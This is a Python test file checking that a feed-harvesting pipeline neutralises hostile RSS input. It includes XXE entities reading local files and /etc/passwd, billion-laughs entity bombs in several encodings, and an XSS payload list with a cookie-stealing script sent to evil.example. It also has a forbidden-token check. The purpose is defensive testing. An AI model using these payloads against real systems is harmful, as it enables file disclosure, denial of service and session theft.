"""Hostile feeds through the real pipeline: entity bombs, external entities, script-laden HTML."""

from __future__ import annotations

from tests.conftest import serve_bytes


def test_external_entity_never_reads_a_local_file(loopback, hub, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("CANARY-7f3a-LOCAL-FILE")
    feed = f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>
<rss version="2.0"><channel><title>t</title>
<item><title>Leak &xxe;</title><description>&xxe;</description><link>http://council.example/1</link></item>
</channel></rss>""".encode()
    serve_bytes(loopback, "/xxe.rss", feed, "application/rss+xml")
    hub.write_sources([{"id": "xxe", "kind": "feed", "url": loopback.url_for("/xxe.rss"), "tagged_only": False}])
    hub.harvest()
    dump = repr(hub.query("SELECT * FROM raw_entries")) + repr(hub.query("SELECT * FROM hub_items"))
    assert "CANARY-7f3a" not in dump
    assert "CANARY-7f3a" not in (hub.warehouse_path.read_bytes() + hub.warehouse_path.with_name("hub.search.sqlite").read_bytes()).decode("latin-1")


def test_billion_laughs_is_not_expanded(loopback, hub):
    entities = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10 if i > 1 else "lol" * 10}">' for i in range(1, 10))
    feed = f"""<?xml version="1.0"?>
<!DOCTYPE rss [{entities}]>
<rss version="2.0"><channel><title>t</title>
<item><title>&lol9;</title><link>http://council.example/lol</link></item></channel></rss>""".encode()
    serve_bytes(loopback, "/lol.rss", feed, "application/rss+xml")
    hub.write_sources([{"id": "lol", "kind": "feed", "url": loopback.url_for("/lol.rss"), "tagged_only": False}])
    hub.harvest()
    # Expanding the entities would have run the parse past its time limit and had it stopped.
    health = hub.health("lol")
    assert health["status"] == "ok", health["error"]
    (longest,) = hub.query("SELECT coalesce(max(length(title) + length(content_text)), 0) FROM raw_entries")[0]
    assert longest < 10_000  # 10^9 "lol"s were not produced


HOSTILE_HTML = """<p onclick="steal()">Hello</p>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(1)">
<a href="javascript:alert(2)">click</a>
<a href="JaVaScRiPt&#58;alert(3)">click</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNCk+">
<div style="background:url(javascript:alert(5));width:expression(alert(6))">styled</div>
<iframe src="http://evil.example/"></iframe>
<svg onload="alert(7)"><circle r="1"/></svg>
<form action="http://evil.example/"><input name="x"></form>
<object data="http://evil.example/x.swf"></object>
<a href="https://council.example/ok">a real link</a>"""


def test_script_event_handlers_and_dangerous_urls_are_removed(loopback, hub):
    from html import escape

    feed = f"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>
<item><title>Hostile &lt;script&gt;alert(8)&lt;/script&gt; title</title><link>http://council.example/x</link>
<description>{escape(HOSTILE_HTML)}</description></item></channel></rss>""".encode()
    serve_bytes(loopback, "/xss.rss", feed, "application/rss+xml")
    hub.write_sources([{"id": "xss", "kind": "feed", "url": loopback.url_for("/xss.rss"), "tagged_only": False}])
    hub.harvest()
    (html, text, title, summary), = hub.query("SELECT content_html, content_text, title, summary FROM raw_entries")
    lowered = html.lower()
    for forbidden in ("<script", "onclick", "onerror", "onload", "javascript:", "data:", "expression(", "<iframe",
                      "<svg", "<form", "<object", "style="):
        assert forbidden not in lowered, forbidden
    assert 'href="https://council.example/ok"' in html
    assert "steal()" not in text and "document.cookie" not in text
    assert "<" not in title and "<" not in summary


def _billion_laughs(extra: str = "") -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i > 1 else "lol" * 10}">' for i in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE rss [{entities}{extra}]><rss version="2.0"><channel><title>t</title>'
            f'<item><title>&l9;</title><link>http://council.example/lol</link></item></channel></rss>').encode()


def test_entity_declarations_that_expand_or_read_files_are_dropped_before_parsing():
    from pipelines.parse.xmlfeed import without_expanding_entities

    cleaned = without_expanding_entities(_billion_laughs('<!ENTITY x SYSTEM "file:///etc/passwd">'
                                                         "<!ENTITY org 'Leeds'>"))
    assert b"&l1;" not in cleaned.split(b"]>")[0]  # no declaration refers to another entity
    assert b"SYSTEM" not in cleaned
    assert b'<!ENTITY l1 "lollollollollollollollollollol">' in cleaned
    assert b'<!ENTITY org "Leeds">' in cleaned
    plain = b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title></channel></rss>'
    assert without_expanding_entities(plain) is plain


def test_plain_text_entities_still_expand():
    from pipelines.parse.xmlfeed import parse_xml_feed

    body = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nb "&#160;"><!ENTITY org \'Leeds\'>]>'
            b'<rss version="2.0"><channel><title>t &org;&nb;x</title>'
            b'<item><title>a</title><link>http://council.example/1</link></item></channel></rss>')
    assert parse_xml_feed(body, "http://council.example/feed", "application/rss+xml").title == "t Leeds\xa0x"


def test_parsing_entity_bombs_again_and_again_does_not_grow_memory():
    # Before the declarations were dropped, each parse of this document left about 20 MB behind
    # in the process until the next garbage collection: ten parses held 200 MB.
    import psutil

    from pipelines.parse import parse_document
    from pipelines.parse.entries import ParseOptions

    process = psutil.Process()
    body = _billion_laughs()
    parse_document(body, "http://council.example/feed", None, ParseOptions("lol", (), False))
    before = process.memory_info().rss
    for _ in range(10):
        doc = parse_document(body, "http://council.example/feed", None, ParseOptions("lol", (), False))
        assert [r.title for r in doc.records] == ["&l9;"]
    assert process.memory_info().rss - before < 20_000_000


def _in_encoding(body: bytes, codec: str) -> bytes:
    return body.decode().replace('version="1.0"?>', f'version="1.0" encoding="{codec}"?>').encode(codec)


def test_entity_bombs_in_utf16_and_utf32_are_reduced_too():
    # Their "<!DOCTYPE" is spelt with NUL bytes between the letters, so a byte search misses it;
    # each such bomb cost a parse about 0.25 s and 20 MB held until the next garbage collection.
    from pipelines.parse.xmlfeed import parse_xml_feed, without_expanding_entities

    bomb = _billion_laughs("<!ENTITY org 'Leeds'>")
    for codec in ("utf-16", "utf-16-be", "utf-32", "utf-32-be"):
        wide = _in_encoding(bomb, codec)
        cleaned = without_expanding_entities(wide)
        assert cleaned[:4] == wide[:4], codec  # same byte order mark or first character
        text = cleaned.decode(codec)
        assert "&l1;" not in text.split("]>")[0], codec
        assert '<!ENTITY org "Leeds">' in text, codec
        feed = parse_xml_feed(cleaned, "http://council.example/feed", None)
        assert [e.title for e in feed.entries] == ["&l9;"], codec


def test_plain_text_entities_still_expand_in_utf16():
    from pipelines.parse.xmlfeed import parse_xml_feed, without_expanding_entities

    body = _in_encoding(b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY org \'Leeds\'>]>'
                        b'<rss version="2.0"><channel><title>t &org;</title>'
                        b'<item><title>a</title><link>http://council.example/1</link></item></channel></rss>', "utf-16")
    assert parse_xml_feed(without_expanding_entities(body), "http://council.example/feed", None).title == "t Leeds"


def test_wide_documents_without_a_doctype_and_badly_encoded_ones_pass_unchanged():
    from pipelines.parse.xmlfeed import without_expanding_entities
    from tests.conftest import SHARED

    for name in ("fp_encoding_utf-16le-bom.xml", "fp_encoding_utf-32be-autodetect.xml"):
        body = (SHARED / "corpus" / "feeds-broken" / name).read_bytes()
        assert without_expanding_entities(body) is body, name
    broken = b"\xff\xfe<\x00!\x00\x00\xd8"  # a UTF-16 lone surrogate: the parser reports it
    assert without_expanding_entities(broken) is broken
